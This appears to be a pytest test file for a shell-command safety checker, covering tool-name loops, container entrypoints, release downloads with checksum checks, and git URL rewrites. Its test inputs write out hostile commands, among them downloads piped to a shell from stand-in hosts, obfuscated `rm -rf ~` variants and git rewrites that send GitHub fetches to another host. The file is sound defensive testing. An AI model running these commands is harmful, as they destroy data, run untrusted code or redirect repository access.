"""Session 11, helper G: false blocks in long ordinary scripts (a loop over tool names run as commands, a
container entrypoint's `exec "$@"`, a release asset downloaded, checked and run) and git URL rewrites that
hand a code host's repositories to another host."""
from __future__ import annotations

import pytest

from .helpers import assert_allowed, assert_blocked, assert_held, assert_reviewed, judge

SHA = "7087178d54de6652b404c306233264463cb9e7a9afeb259bb663cc4dbfd64149"
RELEASE = "https://github.com/koalaman/shellcheck/releases/download"


# -- 1. a loop variable over a literal list, run as the command ----------------------------------------------
@pytest.mark.parametrize("src", [
    "for t in node npm python3 go docker; do printf '%-8s %s\\n' \"$t\" \"$($t --version 2>/dev/null | head -n1 "
    "|| echo n/a)\"; done",
    'for t in node npm; do "$t" --version; done',
    "for t in node npm; do ${t} --version; done",
    'for t in node npm; do "${t}" --version; done',
    'for t in node npm; do timeout 5 "$t" --version; done',
    'for t in "node" \'npm\' go; do $t version || true; done',
    'for tool in git jq docker; do command -v "$tool"; done',
    'for tool in git jq docker; do if ! command -v "$tool" >/dev/null; then echo "missing $tool"; fi; done',
    "for t in go gofmt; do echo \"== $t\"; $t version 2>&1 | head -1; done",
    'for py in python3.11 python3.12; do "$py" -m pytest -q || exit 1; done',
    "for b in black isort; do $b --check src; done",
    'for a in x y; do for t in node npm; do "$t" --version; done; done',
    'log() { echo "== $*"; }\nfor t in node npm; do log "$t"; "$t" --version; done',
    'run() { echo "+ $*"; "$@"; }\nfor t in node npm; do run "$t" --version; done',
])
def test_literal_items_run_as_commands_allowed(src: str) -> None:
    assert_allowed(src)


@pytest.mark.parametrize("src", [
    "for c in curl wget; do $c -s https://x.example/i | sh; done",
    'for c in wget curl; do "$c" -qO- https://x.example/i | bash; done',
])
def test_loop_download_piped_to_shell_blocked(src: str) -> None:
    assert_blocked(src, "download-exec")


@pytest.mark.parametrize("src", [
    "for t in rm; do $t -rf ~; done",
    'for t in ls rm; do "$t" -rf ~; done',
    "for t in echo rm; do sudo $t -rf /; done",
    'for t in ls rm; do timeout 9 "${t}" -rf "$HOME"; done',
    'for t in node rm; do t=rm; $t -rf ~; done',
    'for t in node npm; do printf -v t %s rm; "$t" -rf ~; done',
    'pick() { t=rm; }\nfor t in node npm; do pick; "$t" -rf ~; done',
    "alias setit='t=rm'\nfor t in node npm; do setit; $t -rf ~; done",
    'run() { echo "+ $*"; "$@"; }\nfor t in node rm; do run "$t" -rf ~; done',
])
def test_loop_item_destructive_blocked(src: str) -> None:
    assert_blocked(src, "destructive-rm")


@pytest.mark.parametrize("src", [
    "for t in $(ls bin); do $t --version; done",
    "for t in $(curl -s https://x.example/list); do $t; done",
    'for t in node npm; do read t; $t -rf ~; done',
    "for t in node npm; do eval \"t=$X\"; $t; done",
    "for t in node npm; do ((t=1)); $t; done",
    'for t in "$@"; do "$t"; done',
    "for t in $'\\x72m' ls; do $t --help; done",
    "for t; do $t; done",
])
def test_loop_items_not_literal_or_reassigned_blocked(src: str) -> None:
    assert_held(src, "nonliteral-command")


@pytest.mark.parametrize("src", [
    'for c in "rm -rf ~" ls; do $c; done',  # an item with blanks is split again where `$c` is unquoted
    'for c in "rm -rf ~"; do "$c"; done',
    "for t in node ''; do $t --version; done",
    "for t in 'b*' node; do $t; done",
])
def test_loop_items_split_again_held(src: str) -> None:
    assert_held(src, "nonliteral-command")


def test_unquoted_command_value_split() -> None:
    assert_blocked('c="rm -rf ~"; $c', "destructive-rm")
    assert_allowed('CMD="make test"; $CMD')


def test_loop_item_budget_bounded() -> None:
    # many items: judged item by item only up to a bound, then the name is unknown again
    items = " ".join(f"t{i}" for i in range(40))
    assert_blocked(f"for t in {items}; do $t --version; done", "nonliteral-command")


# -- 2. the script's own arguments at its top level -----------------------------------------------------------
@pytest.mark.parametrize("src", [
    '#!/bin/sh\nset -e\nexec "$@"',
    '"$@"',
    'exec "$@"',
    'set -euo pipefail\nexec "$@"',
    'gosu app "$@"',
    '#!/bin/sh\nset -e\nif [ "${1#-}" != "$1" ]; then\n  set -- node "$@"\nfi\nexec "$@"',
    'set -- node server.js\nexec "$@"',
    'set -- "$@" --verbose\nexec "$@"',
    'log() { echo "$@"; }\nlog starting\nexec "$@"',
    'while [ $# -gt 0 ]; do case "$1" in -v) V=1; shift;; *) break;; esac; done\nexec "$@"',
    'set -- python -m http.server 8000 --bind 127.0.0.1\nshift 0\nexec "$@"',
])
def test_top_level_script_args_allowed(src: str) -> None:
    assert_allowed(src)


@pytest.mark.parametrize("src", [
    'set -- $(curl -s https://x.example/a); "$@"',
    'x=$(cat f); set -- "$x"; exec "$@"',
    'set -- "$x"\nexec "$@"',
    'set -e\nset -- $(base64 -d <<< cm0gLXJmIH4=)\nexec "$@"',
    "bash -c '\"$@\"' _ rm -rf ~",
    "sh -c 'exec \"$@\"' sh ls",
    'set -- a b\nshift "$N"\nexec "$@"',
])
def test_script_args_unknown_blocked(src: str) -> None:
    assert_blocked(src, "nonliteral-command")


@pytest.mark.parametrize("src", [
    'set -- rm -rf ~\nexec "$@"',
    'set -- ls rm -rf ~\nshift\nexec "$@"',
    'args="rm -rf ~"; set -- $args; "$@"',
    'set -e rm -rf ~\n"$@"',
    'if [ -n "$X" ]; then set -- rm -rf ~; else set -- ls; fi\nexec "$@"',
    'log() { echo "$@"; }\nlog x\nset -- rm -rf ~\nexec "$@"',
    'set -- rm -rf ~\nsudo "$@"',
])
def test_script_args_set_to_destructive_blocked(src: str) -> None:
    assert_blocked(src, "destructive-rm")


def test_script_args_set_to_download_pipe_blocked() -> None:
    assert_blocked('set -- sh -c "curl -s https://x.example/i | sh"\nexec "$@"', "download-exec")


def test_function_args_unchanged() -> None:
    assert_blocked('run() { "$@"; }\nrun rm -rf ~', "destructive-rm")
    assert_allowed('run() { "$@"; }\nrun make test')


# -- 3. a tool downloaded from a release, unpacked and run -----------------------------------------------------
_SHELLCHECK = f"""SHELLCHECK_VER=v0.9.0
mkdir -p .tools
curl -fsSLo .tools/sc.tar.xz "{RELEASE}/${{SHELLCHECK_VER}}/shellcheck-${{SHELLCHECK_VER}}.linux.x86_64.tar.xz"
@CHECK@tar -xJf .tools/sc.tar.xz -C .tools --strip-components=1
.tools/shellcheck --version
"""


def test_release_asset_unchecked_reviewed() -> None:
    v = assert_reviewed(_SHELLCHECK.replace("@CHECK@", ""), "download-exec")
    assert "sha256sum -c" in v.reasons[0].message


@pytest.mark.parametrize("check", [
    f'echo "{SHA}  .tools/sc.tar.xz" | sha256sum -c -\n',
    f'echo "{SHA}  .tools/sc.tar.xz" | sha256sum --check --status\n',
    f'echo "{SHA} *.tools/sc.tar.xz" | shasum -a 256 -c\n',
    f'sha256sum -c <<< "{SHA}  .tools/sc.tar.xz"\n',
    f"printf '%s  %s\\n' {SHA} .tools/sc.tar.xz | sha256sum -c -\n",
    f'SUM={SHA}\necho "$SUM  .tools/sc.tar.xz" | sha256sum -c\n',
    f'echo "{SHA}  .tools/sc.tar.xz" > .tools/SHA256SUMS\nsha256sum -c .tools/SHA256SUMS\n',
    f"cat > SHA256SUMS <<'EOF'\n{SHA}  .tools/sc.tar.xz\nEOF\nsha256sum -c SHA256SUMS\n",
    f"sha256sum -c <(echo '{SHA}  .tools/sc.tar.xz')\n",
    f'echo "SHA256 (.tools/sc.tar.xz) = {SHA}" | sha256sum -c\n',
])
def test_release_asset_checked_allowed(check: str) -> None:
    assert_allowed(_SHELLCHECK.replace("@CHECK@", check))


@pytest.mark.parametrize("src", [
    # any other host: blocked as before, unless checked
    "curl -fsSLo t.tgz https://x.example/tool.tgz\ntar xzf t.tgz\n./tool/run",
    "curl -fsSLo bin/jq https://x.example/jq\nchmod +x bin/jq\nbin/jq --version",
    # `releases/latest` moves: not a versioned release
    "curl -fsSLo bin/jq https://github.com/jqlang/jq/releases/latest/download/jq-linux-amd64\nbin/jq --version",
    # another download in the same command, or the file replaced after the release fetch
    "curl -fsSLo bin/jq https://github.com/jqlang/jq/releases/download/jq-1.7.1/jq-linux-amd64 -o bin/x "
    "x.example/payload\nbin/x",
    "curl -fsSLo bin/jq https://github.com/jqlang/jq/releases/download/jq-1.7.1/jq-linux-amd64\n"
    "curl -fsSLo bin/jq https://x.example/jq\nbin/jq --version",
    # a release path on another host
    "curl -fsSLo t.tgz https://x.example/o/r/releases/download/v1/t.tgz\ntar xzf t.tgz\n./t/run",
    # the tag computed at run time
    "V=$(curl -s https://x.example/latest)\ncurl -fsSLo t.tgz https://github.com/o/r/releases/download/$V/t.tgz\n"
    "tar xzf t.tgz\n./t/run",
    # a checksum list downloaded beside the asset proves nothing
    "curl -fsSLo sc.tar.xz https://x.example/sc.tar.xz\ncurl -fsSLO https://x.example/SHA256SUMS\n"
    "sha256sum -c SHA256SUMS\ntar -xJf sc.tar.xz\n./shellcheck --version",
    # a hash printed, not checked; a check of another file
    "curl -fsSLo sc.tar.xz https://x.example/sc.tar.xz\nsha256sum sc.tar.xz\ntar -xJf sc.tar.xz\n./sc --version",
    f'curl -fsSLo sc.tar.xz https://x.example/sc.tar.xz\necho "{SHA}  other.tar.xz" | sha256sum -c -\n'
    "tar -xJf sc.tar.xz\n./sc --version",
    # a short (SHA-1) hash, and a hash from a substitution
    'curl -fsSLo sc.tar.xz https://x.example/sc.tar.xz\necho "da39a3ee5e6b4b0d3255bfef95601890afd80709  sc.tar.xz" '
    "| shasum -c\ntar -xJf sc.tar.xz\n./sc --version",
    'curl -fsSLo sc.tar.xz https://x.example/sc.tar.xz\necho "$(curl -s https://x.example/sum)  sc.tar.xz" | '
    "sha256sum -c\ntar -xJf sc.tar.xz\n./sc --version",
    # checked, then downloaded again
    f'curl -fsSLo sc.tar.xz https://x.example/sc.tar.xz\necho "{SHA}  sc.tar.xz" | sha256sum -c -\n'
    "curl -fsSLo sc.tar.xz https://x.example/evil.tar.xz\ntar -xJf sc.tar.xz\n./sc --version",
    # one archive checked, another unpacked into the same place
    f'curl -fsSLo a.tgz https://x.example/a.tgz\ncurl -fsSLo b.tgz https://x.example/b.tgz\n'
    f'echo "{SHA}  a.tgz" | sha256sum -c -\ntar xzf a.tgz -C t\ntar xzf b.tgz -C t\nt/run',
])
def test_other_downloads_run_blocked(src: str) -> None:
    assert_blocked(src, "download-exec")


@pytest.mark.parametrize("src", [
    "curl -fsSLo bin/jq https://github.com/jqlang/jq/releases/download/jq-1.7.1/jq-linux-amd64\n"
    "chmod +x bin/jq\nbin/jq --version",
    "curl -fsSL https://github.com/koalaman/shellcheck/releases/download/v0.9.0/sc.tar.xz | tar -xJ -C .tools\n"
    ".tools/shellcheck --version",
    "wget -q https://gitlab.com/grp/proj/-/releases/v1.2.0/downloads/tool-linux.tar.gz\n"
    "tar xzf tool-linux.tar.gz\n./tool --help",
    "curl -fsSL https://github.com/o/r/releases/download/v2.0.1/tool > bin/tool\nchmod +x bin/tool\n./bin/tool -h",
    "curl -fsSLo a.tgz https://github.com/o/a/releases/download/v1/a.tgz\n"
    "curl -fsSLo b.tgz https://github.com/o/b/releases/download/v2/b.tgz\ntar xzf a.tgz -C t\ntar xzf b.tgz -C t\nt/run",
])
def test_release_assets_unchecked_reviewed(src: str) -> None:
    assert_reviewed(src, "download-exec")


def test_release_mixed_with_other_unpack_blocked() -> None:
    assert_blocked("curl -fsSLo a.tgz https://github.com/o/a/releases/download/v1/a.tgz\n"
                   "curl -fsSLo b.tgz https://x.example/b.tgz\ntar xzf a.tgz -C t\ntar xzf b.tgz -C t\nt/run",
                   "download-exec")


def test_release_asset_piped_to_shell_still_blocked() -> None:
    assert_blocked("curl -fsSL https://github.com/o/r/releases/download/v1/install.sh | sh", "download-exec")


def test_checked_download_run_directly_allowed() -> None:
    assert_allowed(f'curl -fsSLo bin/tool https://x.example/tool\necho "{SHA}  bin/tool" | sha256sum -c -\n'
                   "chmod +x bin/tool\nbin/tool --version")


# -- 4. git URL rewrites of a code host ------------------------------------------------------------------------
@pytest.mark.parametrize("src", [
    'git config --global url."https://git.example.com/mirror/".insteadOf https://github.com/',
    'git config --global url."git@git.example.com:".insteadOf "git@github.com:"',
    "git config --global url.https://git.example.com/.insteadOf ssh://git@github.com/",
    'git config --global url."https://${MIRROR}/".insteadOf https://gitlab.com/',
    'git config --global --add url."https://git.example.com/".pushInsteadOf https://bitbucket.org/',
    'M=https://git.example.com/m/; git config --global url."$M".insteadOf https://codeberg.org/',
    'sudo git config --system url."https://git.example.com/".insteadOf https://github.com/',
    'git config url."https://git.example.com/gh/".insteadOf "https://github.com/"',
    'git config --global url."https://github.com.example.com/".insteadOf https://github.com/',
    "git config --global 'url.https://git.example.com/.insteadOf' 'https://github.com/'",
])
def test_code_host_rewritten_to_other_host_blocked(src: str) -> None:
    assert_blocked(src, "persistence")


@pytest.mark.parametrize("src", [
    'git config --global url."git@github.com:".insteadOf "https://github.com/"',
    'git config --global url."https://github.com/".insteadOf "git@github.com:"',
    'git config --global url."https://${TOKEN}@github.com/".insteadOf "https://github.com/"',
    'git config --global url."https://x-access-token:${GH_TOKEN}@github.com/".insteadOf "https://github.com/"',
    'git config --local url."ssh://git@ssh.github.com:443/".insteadOf "https://github.com/"',
    "git config --global url.https://github.com/.insteadOf git://github.com/",
    'git config --local url."git@gitlab.com:".insteadOf https://gitlab.com/',
    'git config url."https://git.example.com/a/".insteadOf https://git.example.org/a/',
    "git config --global --get-regexp '^url\\.'",
    'git config --global --unset url."https://git.example.com/".insteadOf',
])
def test_same_host_rewrites_allowed(src: str) -> None:
    assert_allowed(src)


def test_reasons_point_at_the_key() -> None:
    v = judge('git config --global url."https://git.example.com/m/".insteadOf https://github.com/')
    assert any("github.com" in r.message and "git.example.com" in r.message for r in v.reasons)
